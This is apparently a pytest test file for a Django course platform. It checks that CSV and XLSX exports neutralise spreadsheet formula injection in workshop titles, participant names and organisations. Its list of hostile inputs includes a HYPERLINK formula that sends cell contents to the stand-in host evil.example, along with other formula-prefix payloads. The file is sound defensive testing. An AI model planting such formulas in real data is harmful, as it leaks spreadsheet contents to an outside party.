"""Exports cannot carry formulas: in every CSV and XLSX download, a text cell that a
spreadsheet would run is neutralised with an apostrophe and XLSX text is stored as text;
numbers stay numbers."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

from django.contrib.auth.models import Group, Permission

import pytest
from allauth.mfa.models import Authenticator
from openpyxl import load_workbook

from courses.exports import FORMULA_STARTS, spreadsheet, workbook
from courses.models import Participant, Workshop
from courses.models.learners import profile_for
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def with_totp(user):
    """Two-factor set up, as every privileged account must have it."""
    Authenticator.objects.create(user=user, type=Authenticator.Type.TOTP, data={"secret": "x"})
    return user


def csv_rows(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def safe_texts(response, fmt):
    """The text cells of an export, once it is checked that no cell is a formula."""
    if fmt == "csv":
        texts = [value for row in csv_rows(response) for value in row]
        texts = [text for text in texts if not number(text)]
    else:
        cells = xlsx_cells(response)
        assert [cell.value for cell in cells if cell.data_type == "f"] == []
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
    return texts


def number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def neutralised_in(texts, hostile):
    """Each hostile text is there behind the apostrophe (XML reads \\r as \\n)."""
    seen = {text.replace("\r", "\n") for text in texts}
    return all("'" + text.replace("\r", "\n") in seen for text in hostile)


@pytest.fixture
def hostile_workshop(tree):
    """A workshop whose title, participants' names and organisations are all formulas."""
    instructor = with_totp(factories.make_user("instructor@example.org"))
    instructor.user_permissions.add(Permission.objects.get(codename="run_workshops"))
    workshop = Workshop.objects.create(
        course_key=tree.course.translation_key,
        title=HOSTILE[0],
        start_date=date.today() - timedelta(days=1),
        end_date=date.today() + timedelta(days=1),
        language="en",
    )
    workshop.instructors.add(instructor)
    for n, (name, organisation) in enumerate(zip(HOSTILE, reversed(HOSTILE), strict=True)):
        user = factories.make_user(f"p{n}@example.org")
        profile = profile_for(user)
        profile.certificate_name, profile.organisation, profile.country = name, organisation, "KE"
        profile.save()
        Participant.objects.create(workshop=workshop, user=user, source="code")
    return workshop, instructor


@pytest.fixture
def manager(client):
    user = with_totp(factories.make_user("manager@example.org", is_staff=True))
    group = Group.objects.create(name="Programme managers")
    group.permissions.add(
        Permission.objects.get(codename="view_programme_reports"),
        Permission.objects.get(codename="access_admin"),
    )
    user.groups.add(group)
    return user


FORMATS = pytest.mark.parametrize("fmt", ["csv", "xlsx"])


@FORMATS
def test_workshop_export_neutralises_hostile_names_and_organisations(client, hostile_workshop, fmt):
    workshop, instructor = hostile_workshop
    client.force_login(instructor)
    texts = safe_texts(client.get(f"/en/teach/{workshop.pk}/export.{fmt}"), fmt)
    assert neutralised_in(texts, HOSTILE)
    assert texts[:2] == ["Name", "Email"]


@FORMATS
def test_programme_export_neutralises_workshop_titles_and_filter_labels(
    client, hostile_workshop, manager, fmt
):
    workshop, _instructor = hostile_workshop
    client.force_login(manager)
    everyone = client.get("/admin/programme-report/", {"export": fmt})
    assert neutralised_in(safe_texts(everyone, fmt), HOSTILE[:1])
    filters = {"organisation": HOSTILE[2], "workshop": workshop.pk, "export": fmt}
    texts = safe_texts(client.get("/admin/programme-report/", filters), fmt)
    assert "'" + HOSTILE[2] in texts
    assert f"'{HOSTILE[0]} ({workshop.start_date:%Y-%m-%d})" in texts


class TestCells:
    ROW = ["-2+3", -3, Decimal("-2.5"), -0.25, "<5", "—", "", None, "Kenya Police"]

    def test_numbers_stay_numbers_and_plain_text_stays_as_typed_in_csv(self):
        (row,) = csv_rows(spreadsheet([self.ROW], "t", "csv", "T"))
        assert row == ["'-2+3", "-3", "-2.5", "-0.25", "<5", "—", "", "", "Kenya Police"]

    def test_numbers_stay_numbers_and_plain_text_stays_as_typed_in_xlsx(self):
        sheet = load_workbook(io.BytesIO(spreadsheet([self.ROW], "t", "xlsx", "T").content)).active
        cells = list(sheet.iter_rows())[0]
        assert [cell.value for cell in cells[:6]] == ["'-2+3", -3, -2.5, -0.25, "<5", "—"]
        assert [cell.data_type for cell in cells[1:4]] == ["n", "n", "n"]
        assert cells[8].value == "Kenya Police"

    def test_xlsx_text_is_text_even_when_it_looks_like_a_formula_or_an_error(self):
        # Below the neutralising step: what openpyxl alone would store as a live formula.
        sheet = load_workbook(io.BytesIO(workbook([["=1+1", "#N/A"]], "T"))).active
        assert [(cell.value, cell.data_type) for cell in sheet[1]] == [
            ("=1+1", "s"),
            ("#N/A", "s"),
        ]

    def test_characters_xml_cannot_hold_are_dropped_from_xlsx_not_fatal(self):
        response = spreadsheet([["Kenya\x01 Police\x1f"]], "t", "xlsx", "T")
        assert load_workbook(io.BytesIO(response.content)).active["A1"].value == "Kenya Police"
